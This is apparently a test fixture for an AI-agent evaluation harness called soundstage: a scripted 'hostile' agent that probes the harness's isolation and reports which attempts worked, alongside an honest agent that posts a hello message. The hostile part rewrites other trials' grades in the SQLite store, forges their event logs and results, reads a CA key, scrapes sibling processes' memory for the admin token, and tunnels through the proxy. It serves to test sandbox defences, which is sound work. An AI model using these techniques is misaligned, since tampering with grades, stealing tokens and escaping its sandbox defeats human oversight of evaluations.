"""An agent that tries every way it can think of to change grades, abort the run or find the admin token; it
prints a JSON report of what worked. Told where things are through its environment (HOSTILE_RUNS: the run
folders and the default store; HOSTILE_HOME: soundstage's home; HOSTILE_SCENE: a scene file), as an agent that
knows this machine would. With a task that asks it to say hello, it does so honestly instead (it runs in the
same `soundstage run` as the hostile one, as another scene)."""

import base64
import glob
import json
import os
import re
import socket
import sqlite3
import sys
import time
import urllib.error
import urllib.request

# How long it waits for another trial to have been graded before it goes on anyway.
WAIT = float(os.environ.get("HOSTILE_WAIT", "5"))
# How long it holds the store locked, when told to.
LOCK = float(os.environ.get("HOSTILE_LOCK", "0"))
# How long the honest agent waits before it says hello (so that its trial ends while the store is locked).
DELAY = float(os.environ.get("HOSTILE_HONEST_DELAY", "0"))
# A token as `secrets.token_urlsafe(32)` makes it.
TOKEN = re.compile(rb"[A-Za-z0-9_-]{43}")


def post(url, body, token):
    request = urllib.request.Request(
        url,
        data=json.dumps(body).encode(),
        method="POST",
        headers={"content-type": "application/json", "authorization": "Bearer " + token},
    )
    with urllib.request.urlopen(request, timeout=10) as response:
        return json.loads(response.read())


def honest():
    time.sleep(DELAY)
    slack = os.environ["SLACK_API_URL"]
    token = os.environ["SLACK_BOT_TOKEN"]
    channels = post(slack + "conversations.list", {}, token)["channels"]
    general = next(c["id"] for c in channels if c["name"] == "general")
    post(slack + "chat.postMessage", {"channel": general, "text": "hello from the agent"}, token)
    print("said hello")


# Which of its attempts it makes (all, unless told).
ATTEMPTS = os.environ.get("HOSTILE_ATTEMPTS", "lock,store,events,results,key,scene,processes,proxy").split(",")


def attempt(report, name, action):
    if name not in ATTEMPTS:
        return
    try:
        report[name] = action()
    except Exception as exc:  # noqa: BLE001 (what failed is the point: the report says how)
        report[name] = f"{type(exc).__name__}: {exc}"


def others(pattern):
    """Files of the honest trials, by a glob under the run folders."""
    return glob.glob(os.path.join(os.environ["HOSTILE_RUNS"], pattern))


def change_the_store():
    store = os.path.join(os.environ["HOSTILE_RUNS"], "soundstage.db")
    with sqlite3.connect(f"file:{store}?mode=rw", uri=True, timeout=1) as connection:
        changed = connection.execute("UPDATE trials SET outcome = 'failed' WHERE scene = 'hello'").rowcount
        changed += connection.execute("UPDATE trials SET outcome = 'passed' WHERE scene = 'hostile'").rowcount
    return changed


def lock_the_store():
    store = os.path.join(os.environ["HOSTILE_RUNS"], "soundstage.db")
    connection = sqlite3.connect(f"file:{store}?mode=rw", uri=True, timeout=1, isolation_level=None)
    connection.execute("BEGIN EXCLUSIVE")
    time.sleep(LOCK)
    connection.execute("ROLLBACK")
    return f"held {LOCK:g} s"


def forge_events():
    forged = 0
    for path in others("*/hello/*/events.jsonl"):
        with open(path, "a") as log:
            log.write(json.dumps({"seq": 999, "kind": "call", "t": "2026-03-02T14:00:00Z"}) + "\n")
        forged += 1
    return forged


def rewrite_results():
    rewritten = 0
    for path in others("*/hello/*/result.json"):
        with open(path) as file:
            result = json.load(file)
        with open(path, "w") as file:
            json.dump({**result, "outcome": "failed"}, file)
        rewritten += 1
    return rewritten


def read(path):
    with open(path, "rb") as file:
        return len(file.read())


def run_processes():
    """The other processes it can see that run soundstage, and what it can read of them."""
    seen = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in (os.getpid(), os.getppid()):
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as file:
                command = file.read()
        except OSError:
            continue
        if b"soundstage" in command and b"hostile" not in command:
            seen[entry] = {"environ": readable(f"/proc/{entry}/environ"), "memory": memory(int(entry))}
    return seen


def readable(path):
    try:
        read(path)
        return True
    except OSError:
        return False


def memory(pid):
    """Reads its heap, as far as it can, and tries every token-shaped string on the control API."""
    found = []
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("rw") or len(found) > 5000:
                    continue
                start, end = (int(part, 16) for part in span.split("-"))
                try:
                    mem.seek(start)
                    found += TOKEN.findall(mem.read(min(end - start, 8 << 20)))
                except OSError:
                    continue
    except OSError as exc:
        return f"unreadable: {exc.strerror}"
    url = os.environ["SOUNDSTAGE_URL"] + "/checks"
    for candidate in dict.fromkeys(found):
        request = urllib.request.Request(url, headers={"authorization": "Bearer " + candidate.decode()})
        try:
            with urllib.request.urlopen(request, timeout=5):
                return "found the admin token"
        except urllib.error.HTTPError:
            continue
    return f"read {len(found)} candidates, none the admin token"


def connect_through_the_proxy():
    proxy = os.environ.get("HTTPS_PROXY")
    if not proxy:
        return None
    credential, _, place = proxy.removeprefix("http://").rpartition("@")
    host, _, port = place.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        auth = base64.b64encode(credential.encode()).decode()
        connection.sendall(
            (
                f"CONNECT 127.0.0.1:5432 HTTP/1.1\r\nHost: 127.0.0.1:5432\r\nProxy-Authorization: Basic {auth}\r\n\r\n"
            ).encode()
        )
        return connection.recv(200).split(b"\r\n", 1)[0].decode()


task = sys.stdin.read()
if task.startswith("Say hello"):
    honest()
    sys.exit(0)
report = {}
if LOCK:
    attempt(report, "lock", lock_the_store)
deadline = time.monotonic() + WAIT
while not others("*/hello/*/result.json") and time.monotonic() < deadline:
    time.sleep(0.1)
attempt(report, "store", change_the_store)
attempt(report, "events", forge_events)
attempt(report, "results", rewrite_results)
attempt(report, "key", lambda: read(os.path.join(os.environ["HOSTILE_HOME"], "tls", "ca.key")))
attempt(report, "scene", lambda: read(os.environ["HOSTILE_SCENE"]))
attempt(report, "processes", run_processes)
attempt(report, "proxy", connect_through_the_proxy)
print(json.dumps(report))
